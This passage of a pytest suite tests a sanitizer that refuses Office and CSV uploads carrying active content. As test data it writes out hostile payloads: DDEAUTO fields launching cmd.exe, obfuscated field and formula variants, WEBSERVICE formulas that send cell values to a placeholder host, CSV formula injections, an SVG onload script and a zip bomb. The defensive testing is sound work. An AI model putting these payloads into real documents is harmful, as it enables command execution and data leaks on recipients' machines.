    assert 'Target="mailto:a@example.org" TargetMode="External"' in said


def test_workbook_that_draws_on_another_is_refused():
    sent = xlsx(
        **{"xl/_rels/workbook.xml.rels": relationships_part(("externalLink", "externalLinks/externalLink1.xml"))}
    )
    assert_rejected(sent, ".xlsx", "something outside the file")


def docx_with_types(*kinds):
    """Return the part [Content_Types].xml with two types for one part."""
    return docx(**{"[Content_Types].xml": content_types_part(*[("word/document.xml", kind) for kind in kinds])})


def test_type_of_macros_is_found_behind_another_of_the_same_part():
    assert_rejected(
        docx_with_types("application/vnd.ms-word.document.macroEnabled.main+xml", f"{WORD_TYPE}.main+xml"),
        ".docx",
        "macros",
    )


def docx_with_runs(*runs):
    """Return a document whose one paragraph has these runs: text, field codes, and begins and ends of fields."""
    marks = {"{": '<w:fldChar w:fldCharType="begin"/>', "}": '<w:fldChar w:fldCharType="end"/>'}
    said = "".join(f"<w:r>{marks.get(run, f'<w:instrText>{run}</w:instrText>')}</w:r>" for run in runs)
    return docx_with_body(f"<w:p>{said}</w:p>")


def docx_with_body(body, **more):
    space = (
        'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="x" mc:Ignorable="x" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    )
    return docx(**{"word/document.xml": f"<w:document {space}><w:body>{body}</w:body></w:document>"} | more)


@pytest.mark.parametrize(
    "sent",
    [
        docx_with_runs("{", ' DDEAUTO c:\\windows\\cmd.exe "/k calc"', "}"),
        docx_with_runs("{", "DD", "EAU", "TO c:\\windows\\cmd.exe", "}"),
        docx_with_runs("{", "{", " QUOTE 68 68 69 ", "}", " c:\\windows\\cmd.exe", "}"),
        docx_with_runs("{", " DD", "{", " QUOTE 69 ", "}", " c:\\windows\\cmd.exe", "}"),
        docx_with_runs("{", ' IF 1 = 1 "', "{", 'includepicture "https://example.org/seen.png"', "}", '"', "}"),
        docx_with_runs("{", 'INCLUDETEXT "\\\\server\\share\\list.docx"', "}"),
        docx_with_runs("{", 'HYPERLINK "file://server/share/list.xlsx"', "}"),
        docx_with_runs("{", "HYPERLINK javascript:alert(1)", "}"),
        docx_with_body('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.12 list.xlsx "/></w:p>'),
        docx_with_body('<w:p><w:pict><v:shape><v:imagedata src="https://example.org/seen.png"/></v:shape></w:pict></w:p>'),
        docx(**{"word/_rels/document.xml.rels": relationships_part(("aFChunk", "more.xml")), "word/more.xml": "<a/>"}),
    ],
    ids=[
        "program", "program in pieces", "program spelled by a field", "program half spelled", "picture in a field",
        "text of another file", "link to a share", "script", "simple field", "drawn picture", "document inside",
    ],
)  # fmt: skip
def test_document_whose_fields_fetch_something_is_refused(sent):
    assert_rejected(sent, ".docx", "something outside the file")


def docx_with_field(*pieces):
    begins, ends = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return docx_with_body(f"<w:p>{begins}{''.join(pieces)}{ends}</w:p>")


def field_code_run(code):
    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"


@pytest.mark.parametrize(
    "sent",
    [
        docx_with_body('<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe" x:instr="PAGE"/></w:p>'),
        docx_with_body('<w:pict><v:imagedata src="https://example.org/seen.png" x:src="a"/></w:pict>'),
        docx_with_field(field_code_run("<x:a></x:a>DDEAUTO c:\\cmd.exe")),
        docx_with_field(field_code_run("DDE<x:a>!</x:a>AUTO c:\\cmd.exe")),
        docx_with_field(
            field_code_run("DD"), f"<x:a>{field_code_run('zzz')}</x:a>", field_code_run("EAUTO c:\\cmd.exe")
        ),
        docx_with_field(
            field_code_run("DD"), '<x:fldChar x:fldCharType="separate"/>', field_code_run("EAUTO c:\\cmd.exe")
        ),
        docx_with_field(
            "<mc:AlternateContent>",
            f'<mc:Choice Requires="x">{field_code_run("PAGE")}</mc:Choice>',
            f"<mc:Fallback>{field_code_run('DD')}</mc:Fallback></mc:AlternateContent>",
            field_code_run("EAUTO c:\\cmd.exe"),
        ),
        docx_with_body('<w:pict><v:image src=" https://example.org/seen.png"/></w:pict>'),
    ],
    ids=[
        "simple field",
        "drawn picture of two addresses",
        "field behind another element",
        "element in a field",
        "run passed over",
        "mark passed over",
        "run chosen",
        "drawn picture",
    ],
)
def test_code_of_which_a_reader_passes_over_a_part_is_refused(sent):
    assert_rejected(sent, ".docx", "something outside the file")


@pytest.mark.parametrize(
    ("element", "match"),
    [
        ('<w:altChunk x:id="r0"/>', r"has another file inside it \(altChunk\)"),
        ('<w:subDoc r:id="r0"/>', r"has another file inside it \(subDoc\)"),
        ("<w:object/>", r"has another file inside it \(object\)"),
        ('<w:control r:id="r0"/>', r"has another file inside it \(control\)"),
        ('<a:blip r:link="r0"/>', "something outside the file"),
        ('<v:imagedata x:href="r0"/>', "something outside the file"),
    ],
)
def test_external_elements_are_refused_under_any_relationship_type(element, match):
    link = relationships_part(("hyperlink", "https://example.org/seen.png", "External"))
    assert_rejected(docx_with_body(element, **{"word/_rels/document.xml.rels": link}), ".docx", match)


def test_fields_that_fetch_nothing_stay():
    """Page numbers, contents, calculations, links to click."""
    runs = ["{", " PAGE ", "}", "{", "=", "{", "PAGE", "}", "+1", "}", "{", ' TOC \\o "1-3" \\h ', "}"]
    runs += ["{", ' HYPERLINK "https://example.org/" ', "}", "{", ' HYPERLINK \\l "_Toc1" ', "}", "{", " DATE ", "}"]
    assert sanitize_file(docx_with_runs(*runs), ".docx")
    assert sanitize_file(docx_with_body("<w:p><w:r><w:t>We LINK the DATABASE</w:t></w:r></w:p>"), ".docx")


def xlsx_with_formula(formula):
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    row = f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'
    return xlsx(**{"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{row}</sheetData></worksheet>'})


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        '_xlfn.WEBSERVICE("https://example.org/"&amp;A1)',
        '_xlfn.IMAGE("https://example.org/a.png")',
        """'a"b'!A1&amp;_xlfn.WEBSERVICE("https://example.org/"&amp;A2)""",
        """'a"b'!A1+cmd|'/c calc'!A0&amp;"\"""",
        """'it''s "a'!A1+cmd|'/c calc'!A0&amp;"\"""",
        """Cases[a"b]&amp;_xlfn.WEBSERVICE("https://example.org/")""",
        """Cases[a'[]&amp;_xlfn.WEBSERVICE("https://example.org/")&amp;Cases[a'[]""",
        "_xlfn.MAP(A1:A9,_xlfn._xleta.WEBSERVICE)",
    ],
)
def test_workbook_whose_formulas_fetch_something_is_refused(formula):
    assert_rejected(xlsx_with_formula(formula), ".xlsx", "something outside the file")


@pytest.mark.parametrize("formula", ["<x></x>_xlfn.WEBSERVICE(A1)", "_xlfn.WEB<x/>SERVICE(A1)"])
def test_formula_with_an_unknown_element_in_it_is_read_without_it(formula):
    assert_rejected(xlsx_with_formula(formula), ".xlsx", "something outside the file")


def test_formula_with_another_in_it_is_refused():
    assert_rejected(xlsx_with_formula("1<f>2</f>"), ".xlsx", "is damaged, or its content")


def test_workbook_on_a_database_is_refused():
    sent = xlsx(**{"xl/_rels/workbook.xml.rels": relationships_part(("connections", "connections.xml"))})
    assert_rejected(sent, ".xlsx", "something outside the file")


def test_formulas_that_calculate_are_kept():
    assert sanitize_file(xlsx_with_formula('IF(A2="a|b",SUM(B1:B9),VLOOKUP(A1,One!A1:B2,2))'), ".xlsx")


def test_a_document_with_a_password_is_refused_with_a_hint():
    container = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    assert_rejected(
        container + "EncryptedPackage".encode("utf-16-le"), ".docx", "has a password. Save the file without"
    )
    assert_rejected(container, ".xlsx", r"is in an old format. Save it in the format Excel \(.xlsx\)")


def test_zip_made_to_fill_a_server_is_refused(monkeypatch):
    bomb = docx(**{"word/more.xml": f"<a>{' ' * 1_000_000}</a>"})
    assert len(bomb) < 10_000
    assert sanitize_file(bomb, ".docx")

    monkeypatch.setattr(office, "MAX_UNPACKED_BYTES", 1_000_000)
    assert_rejected(bomb, ".docx", "is damaged, or its content")


# --- Texts ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "match"),
    [
        ("Qacha’s Nek".encode("cp1252"), "is not a text in UTF-8. Save it again"),
        ("Maseru".encode("utf-16"), "is not a text in UTF-8. Save it again"),
        (b"a\x00b", "contains characters that are not text"),
        (b"a\x1b[2Jb", "contains characters that are not text"),
        (b"\n<svg onload='alert(1)'/>", "contains a web page or a drawing with code"),
        ("\ufeff<!doctype html><p>".encode(), "contains a web page or a drawing with code"),
        (rb"{\rtf1\ansi{\object\objdata 01}}", "contains a web page or a drawing with code"),
    ],
)
@pytest.mark.parametrize("extension", [".txt", ".csv"])
def test_text_with_binary_content_is_refused(content, match, extension):
    assert_rejected(content, extension, match)


@pytest.mark.parametrize(
    "table",
    [
        "=cmd|'/c calc'!A0",
        "a,=1+1",
        'a;b\r\n1;=HYPERLINK(""https://example.org/""&A1)',
        "a\tb\r\n1\t@SUM(A1)",
        "\ufeff=1+1",
        'a,"b\n",c\n1,"=WEBSERVICE(""https://example.org/"")",2',
        'a,"=1+1"',
        "a, =1+1",
        "-2+3+cmd|'/c calc'!A0",
        '+HYPERLINK ("https://example.org/"&A1)',
        "a,\t-SUM(A1)",
        "\"\r+'https://example.org/[a.xlsx]One'!A1\"",
        "a,＝1+1",
        "sep=|\na|=1+1",
        "ID;PWXL\nC;Y1;X1;K0;EA1",
    ],
)
def test_a_table_with_formulas_that_run_is_refused_with_a_hint(table):
    assert_rejected(table.encode(), ".csv", r"would run as a formula.* Write a word or an apostrophe before it and")
    assert sanitize_file(table.encode(), ".txt").content == table.encode()


def test_row_of_a_table_that_a_spreadsheet_would_run_is_named():
    assert_rejected(b"district,cases\nMaseru,3\nLeribe,=1+1\nBerea,2\n", ".csv", "in the row that ends in line 3:")


def test_table_of_numbers_telephones_and_words_stays_as_it_is():
    rows = ["ID;change;telephone;day;of which", "1;-5;+266 2231-2345;-;-1,5 %", "2;-1.5E+03;+(266) 22 312 345;--;3"]
    rows += ['3;"- 5";-12 500;a=b;"Trained:\n- police (12)\n- nurses!"', "4;'=1+1;a-b;a@example.org;Qacha’s Nek"]
    table = "\r\n".join(rows).encode()
    assert sanitize_file(table, ".csv").content == table


# --- Apart ------------------------------------------------------------------------------------------------------------


def test_a_failure_of_the_sanitizer_process_refuses_the_file(monkeypatch):
    with pytest.raises(FileRejected, match="is of type PDF"):
        sanitize_file_in_sandbox(PDF, ".docx", run=Sandbox(None))
    monkeypatch.setattr(sanitizer_sandbox, "TIMEOUT_SECONDS", 0.001)
    with pytest.raises(FileRejected, match="cannot be checked: that takes too long"):
        sanitize_file_in_sandbox(PDF, ".pdf", run=Sandbox(None))


def test_cleaner_that_dies_refuses_the_file(monkeypatch):
    monkeypatch.setattr("sys.executable", "/bin/false")
    with pytest.raises(FileRejected, match="cannot be checked"):
        sanitize_file_in_sandbox(PDF, ".pdf", run=Sandbox(None))
